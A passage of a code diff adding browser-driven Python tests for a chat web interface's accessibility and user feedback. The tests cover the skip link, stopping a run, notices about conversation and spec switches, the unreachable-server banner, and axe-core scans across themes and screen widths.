+    """Issue 23 item 13: a skip link is the first Tab stop; Esc stops a run; statuses are
+    announced in a live region."""
+    p = page.page
+    first = await p.evaluate(
+        """() => [...document.querySelectorAll("a[href], button, select, textarea, input")]
+          .find((e) => e.tabIndex >= 0 && !e.disabled && !e.closest("[hidden]")).className"""
+    )
+    assert first == "skip"
+    await p.focus(".skip")
+    assert await p.locator(".skip").is_visible()  # shown when focused
+    await p.keyboard.press("Enter")
+    assert await p.evaluate("document.activeElement.id") == "question"
+    assert await p.get_attribute("#live", "aria-live") == "polite"
+    served.models.reset()
+    await page.start("Escape me", "streaming")
+    await (
+        p.locator('.card[data-node="layer_1/slowpoke"] .text')
+        .filter(has_text="slowpoke")
+        .wait_for()
+    )
+    await p.keyboard.press("Escape")
+    await p.locator("article.turn .stopped-note").wait_for()
+    assert "Stopped" in await p.inner_text("#live")
+    assert page.errors == []
+
+
+async def test_no_silent_no_ops(page: Page, served: Served) -> None:
+    """Issue 23 item 14: switching conversation while a run goes says so (and the run goes
+    on); a spec switch mid-conversation says so and each turn names its spec; a dead server
+    says it cannot be reached."""
+    p = page.page
+    served.models.reset()
+    await page.ask("An older conversation")
+    older = await page.thread_id()
+    await p.click("#new-thread")
+    await page.start("Still running elsewhere", "streaming")
+    await (
+        p.locator('.card[data-node="layer_1/slowpoke"] .text')
+        .filter(has_text="slowpoke")
+        .wait_for()
+    )
+    running = await page.thread_id()
+    await p.locator(f'#thread-list .thread[data-thread="{older}"]').click()
+    await p.locator("#notice").filter(has_text="goes on on the server").wait_for()
+    await p.locator("article.turn .question").filter(has_text="An older conversation").wait_for()
+    await p.locator(f'#thread-list .thread[data-thread="{running}"] .thread-running').wait_for()
+    await p.locator(f'#thread-list .thread[data-thread="{running}"]').click()
+    turn = p.locator("article.turn").filter(has_text="Still running elsewhere")
+    await _done(turn)  # re-attached: live, or finished on the server meanwhile
+    assert len(served.models.log("slowpoke")) == 1
+    # A spec switch mid-conversation is said, and each turn names its spec.
+    await p.select_option("#spec", "mix")
+    assert "mix" in await p.inner_text("#notice") and "streaming" in await p.inner_text("#notice")
+    assert "spec streaming" in await turn.locator(".turn-spec").inner_text()
+    # Typing while a run goes says why nothing happens.
+    await page.start("One more", "mix")
+    await p.fill("#question", "Too early")
+    await p.press("#question", "Enter")
+    assert "A run is going" in await p.inner_text("#notice")
+    await _done(p.locator("article.turn").last)
+    # A dead server: the page says it cannot reach it, not "Failed to fetch".
+    await p.route("**/ui/api/runs", lambda route: route.abort())
+    await p.fill("#question", "Anyone there?")
+    await p.press("#question", "Enter")
+    await p.locator("#banner").filter(has_text="Cannot reach the server").wait_for()
+    assert "Failed to fetch" not in await p.inner_text("#banner")
+    assert await p.input_value("#question") == "Anyone there?"
+
+
+@pytest.mark.slow
+async def test_axe_finds_no_serious_violation_in_either_theme_or_width(
+    browser: Any, tmp_path: Path
+) -> None:
+    """Issue 23 items 12-13: axe-core on a finished council view, light and dark, wide and
+    phone (drawer open too): no serious or critical violation (contrast included). Refreshes
+    the README's picture from the wide light view (on servers of its own: a clean list)."""
+    served = Served(tmp_path)
+    try:
+        await _axe_everywhere(browser, served)
+    finally:
+        served.close()
+
+
+async def _axe_everywhere(browser: Any, served: Served) -> None:
+    first = await Page.open(browser, served.url, *VIEWPORTS["wide"], axe=True)
+    try:
+        await first.page.select_option("#spec", "council")
+        await first.ask("Accessible?")
+        url = first.page.url
+    finally:
+        await first.close()
+    problems = {}
+    for dark in (False, True):
+        for name, size in VIEWPORTS.items():
+            page = await Page.open(browser, url, *size, dark=dark, axe=True)
+            try:
+                p = page.page
+                await _done(p.locator("article.turn").first)
+                await p.locator(".layer .ranking").wait_for()
+                theme = "dark" if dark else "light"
+                found = await page.axe()
+                if found:
+                    problems[f"{theme} {name}"] = found
+                if name == "phone":
+                    await p.click("#toggle-threads")
+                    found = await page.axe()
+                    if found:
+                        problems[f"{theme} {name} drawer"] = found
+                    await p.keyboard.press("Escape")
+                await page.shot(f"axe-{theme}-{name}", full_page=True)
+                if name == "wide" and not dark:
+                    await p.set_viewport_size({"width": 1440, "height": 1180})
+                    await p.evaluate("window.scrollTo(0, 0)")
+                    # The README's picture: refreshed on request only (a test run leaves
+                    # the checkout clean); always kept with the other artifacts.
+                    await p.screenshot(path=str(ARTIFACTS / "docs-ui.png"))
+                    if os.environ.get("MOA_REFRESH_DOCS_PICTURE") == "1":
+                        await p.screenshot(path=str(DOCS_PICTURE))
+            finally:
+                await page.close()
+    # The other states' colours: a failed turn, a stopped one, a review pause.
+    for dark in (False, True):
+        theme = "dark" if dark else "light"
+        page = await Page.open(browser, served.url, *VIEWPORTS["wide"], dark=dark, axe=True)
+        try:
+            p = page.page
+            await page.start("Fail, accessibly", "judgefails")
+            await p.locator("article.turn .error").first.wait_for()
+            await page.start("Stop, accessibly", "streaming")
+            await (
+                p.locator('.card[data-node="layer_1/slowpoke"] .status')
+                .filter(has_text="running")
+                .wait_for()
+            )
+            await p.click("#stop")
+            await p.locator("article.turn .stopped-note").filter(has_text="Stopped").wait_for()
+            await page.start("Pause, accessibly", "reviewed")
+            await p.locator(".final .review").wait_for()
+            if found := await page.axe():
+                problems[f"{theme} failed, stopped, paused"] = found
+            await page.shot(f"axe-{theme}-states", full_page=True)
+        finally:
+            await page.close()
+    assert problems == {}, problems
 
 
 @pytest.mark.slow
